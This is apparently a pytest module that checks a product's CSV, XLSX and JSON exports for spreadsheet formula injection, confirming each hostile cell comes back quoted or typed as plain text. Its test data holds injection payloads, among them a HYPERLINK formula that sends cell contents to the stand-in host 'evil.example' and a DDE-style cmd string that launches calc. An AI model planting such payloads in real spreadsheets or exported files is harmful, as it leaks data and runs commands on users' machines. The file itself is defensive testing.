"""Every file the product writes holds hostile cells as text: one rule, read back from the bytes.

Writers: results (CSV wide and long, XLSX wide and long, JSON), the problems file (CSV and
xlsx, from the page and from ``validate --problems-file``), the failed-documents file and the
reconciliation report. Each hostile cell must come back as text a spreadsheet never runs: in CSV
and the results XLSX with a leading quote, in the problems xlsx exact and marked as typed text.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from test_results_samples import document_row

from atlas_core.intake import read_spreadsheet, validate_sheet
from atlas_core.neutralise import csv_cell, neutralise_text, xlsx_cell
from atlas_core.results import export_documents, failed_documents_file, reconcile

ROOT = Path(__file__).resolve().parents[1]
# Cells a spreadsheet could run: a sign first, after blanks, after a line break, after NUL.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(A1:A2)",
    "+91 98200 00000",
    "-12",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +cmd|' /C calc'!A0",
    "\u3000=1+1",
    "\u00a0@SUM(A1)",
    "\uff1d1+1",
    "=1\n=2",
]
NUL_CELLS = ["\0=1+1", "a\0b"]  # a sheet cannot hold NUL (intake refuses it); Atlas text can
SAFE = ["plain text", " 1014 ", "A-12", "hello = world", "राहुल शर्मा"]


def csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    assert b"\0" not in data
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BLANKS = " \t\r\n\0\u00a0\u3000"


def runnable(cell: str) -> bool:
    """This test's own idea of a cell a spreadsheet could run (independent of the code's)."""
    return cell[:1] in ("\t", "\r", "\n", "\0") or cell.lstrip(BLANKS).startswith(SIGNS)


def assert_no_live_cell(cells: list[str]) -> None:
    live = [c for c in cells if isinstance(c, str) and runnable(c) and not _number(c)]
    assert live == []


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def expected(text: str) -> str:
    """How a hostile text reads back from a CSV or the results XLSX."""
    return ("'" if runnable(text) else "") + text.replace("\0", "\ufffd")


@pytest.mark.parametrize("text", HOSTILE + NUL_CELLS)
def test_the_rule_quotes_every_hostile_text(text):
    from atlas_core.neutralise import is_formula_like

    assert is_formula_like(text) == runnable(text)
    assert neutralise_text(text) == expected(text)
    assert not is_formula_like(neutralise_text(text)) and "\0" not in neutralise_text(text)


@pytest.mark.parametrize("text", SAFE)
def test_the_rule_leaves_safe_text_alone(text):
    assert neutralise_text(text) == text


def test_real_numbers_stay_numbers():
    assert csv_cell(-5.0) == -5.0 and csv_cell(-12) == -12
    assert xlsx_cell(-5.0) == -5.0 and xlsx_cell("-5") == "'-5"


def hostile_document(text: str) -> dict:
    data = {
        "document_type": "PAN",
        "name_as_per_pan": {"value": text, "confidence_score": 0.9},
        "pan_number": {"value": "ABCDE1234F", "confidence_score": 0.99},
        text: {"value": "under a hostile field name", "confidence_score": 0.9},
    }
    return document_row(data, document_id=text, batch_id=text, error=text)


@pytest.mark.parametrize("layout", ["wide", "long"])
@pytest.mark.parametrize("text", HOSTILE + NUL_CELLS)
def test_results_csv(text, layout):
    rows = csv_cells(export_documents([hostile_document(text)], "csv", layout))
    cells = [c for row in rows for c in row]
    assert_no_live_cell(cells)
    assert expected(text) in cells


@pytest.mark.parametrize("layout", ["wide", "long"])
@pytest.mark.parametrize("text", HOSTILE + NUL_CELLS)
def test_results_xlsx(text, layout):
    data = export_documents([hostile_document(text)], "xlsx", layout)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type in ("s", "n") for c in cells)  # never a formula cell
    assert_no_live_cell([c.value for c in cells])
    # The writer keeps a CR as OOXML's escape _x000D_ (Excel and calamine read a CR back); openpyxl
    # leaves the escape in inline strings, and turns a raw CR into LF: compare with both undone.
    values = [unescape(str(c.value)).replace("\r", "\n") for c in cells]
    assert expected(text).replace("\r", "\n") in values


@pytest.mark.parametrize("text", HOSTILE + NUL_CELLS)
def test_results_json_keeps_ids_and_values_exact(text):
    (obj,) = json.loads(export_documents([hostile_document(text)], "json", "wide"))
    assert obj["document_id"] == text and obj["batch_id"] == text
    assert obj["file_data"]["name_as_per_pan"]["value"] == text


def hostile_sheet(texts: list[str]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["document_id", "file_url", "note"])
    for number, text in enumerate(texts):
        writer.writerow([text, f"https://files.example.com/{number}.jpg", text])
    writer.writerow(["OK-1", "https://files.example.com/ok.jpg", "-"])
    return buffer.getvalue().encode()


def notes_in_sheet_order(rows: list[list[str]]) -> list[str]:
    """The problems file's "note" cells in sheet order (the file puts problem rows first)."""
    header, body = rows[0], sorted(rows[1:], key=lambda row: int(row[0]))
    return [row[header.index("note")] for row in body]


def test_problems_csv():
    report = validate_sheet(read_spreadsheet(hostile_sheet(HOSTILE), filename="h.csv"))
    rows = csv_cells(report.problems_file("csv"))
    cells = [c for row in rows for c in row]
    assert_no_live_cell(cells)
    assert notes_in_sheet_order(rows) == [expected(t) for t in HOSTILE] + ["'-"]


def test_problems_xlsx_keeps_the_text_and_marks_it_typed():
    report = validate_sheet(read_spreadsheet(hostile_sheet(HOSTILE), filename="h.csv"))
    sheet = openpyxl.load_workbook(io.BytesIO(report.problems_file("xlsx"))).active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    body = sorted(sheet.iter_rows(min_row=2), key=lambda row: int(row[0].value))
    notes = [row[header.index("note")] for row in body]
    # Exact text (a CR, which XML cannot keep, is shown as \x0d); Excel never evaluates it.
    assert [c.value for c in notes] == [t.replace("\r", "\\x0d") for t in HOSTILE] + ["-"]
    assert all(c.data_type == "s" for c in notes)
    assert [c.quotePrefix for c in notes] == [t != "\r=1+1" for t in HOSTILE] + [True]


def test_validate_problems_file_from_the_cli(tmp_path):
    sheet = tmp_path / "hostile.csv"
    sheet.write_bytes(hostile_sheet(HOSTILE))
    out = tmp_path / "problems.csv"
    env = {k: v for k, v in os.environ.items() if not k.startswith("ATLAS_")}
    env["PYTHONPATH"] = str(ROOT)
    done = subprocess.run(
        [sys.executable, "-m", "atlas_core", "validate", str(sheet), "--problems-file", str(out)],
        cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode in (0, 1), done.stderr
    rows = csv_cells(out.read_bytes())
    assert_no_live_cell([c for row in rows for c in row])
    assert notes_in_sheet_order(rows) == [expected(t) for t in HOSTILE] + ["'-"]


def upload_rows_and_documents(text: str) -> tuple[list[dict], list[dict]]:
    columns = ["Customer Ref", "Document Link", text]
    row = {
        "row_number": 2, "document_id": text, "file_url": "https://b.example/1.jpg",
        "valid": True, "problems": [], "columns": columns,
        "original": {"Customer Ref": text, "Document Link": "https://b.example/1.jpg", text: text},
    }  # fmt: skip
    document = {
        "id": 1, "document_id": text, "file_url": "https://b.example/1.jpg", "state": "failed",
        "attempt": 1, "retry_of": None, "batch_id": text, "error": text, "row_number": 2,
        "upload_id": 1, "document_type": None, "file_data": None,
    }  # fmt: skip
    return [row], [document]


@pytest.mark.parametrize("text", HOSTILE + NUL_CELLS)
def test_failed_documents_file(text):
    rows, documents = upload_rows_and_documents(text)
    table = csv_cells(failed_documents_file(rows, documents))
    cells = [c for row in table for c in row]
    assert_no_live_cell(cells)
    assert table[1] == [expected(text), "https://b.example/1.jpg", expected(text), expected(text)]
    assert table[0][2] == expected(text)  # the sheet's own column name


@pytest.mark.parametrize("text", HOSTILE + NUL_CELLS)
def test_reconciliation_report(text):
    rows, documents = upload_rows_and_documents(text)
    report = reconcile(rows, documents)
    cells = [c for row in csv_cells(report.exceptions_csv()) for c in row]
    assert_no_live_cell(cells)
    assert expected(text) in cells
